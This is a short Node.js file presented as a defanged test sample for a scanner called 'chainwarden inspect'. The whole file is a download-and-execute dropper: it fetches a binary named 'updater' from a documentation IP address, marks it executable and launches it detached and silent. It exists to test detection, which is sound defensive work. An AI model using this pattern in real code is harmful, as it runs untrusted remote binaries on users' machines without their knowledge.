// DEFANGED TEST SAMPLE for chainwarden inspect: download a binary from a
// hard-coded IP (RFC 5737 documentation address) and start it.
const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const dest = path.join(os.tmpdir(), 'updater');
http.get('http://192.0.2.55/bin/updater', (res) => {
  const f = fs.createWriteStream(dest);
  res.pipe(f);
  f.on('finish', () => {
    f.close();
    fs.chmodSync(dest, 0o755);
    spawn(dest, [], { detached: true, stdio: 'ignore' }).unref();
  });
}).on('error', () => {});
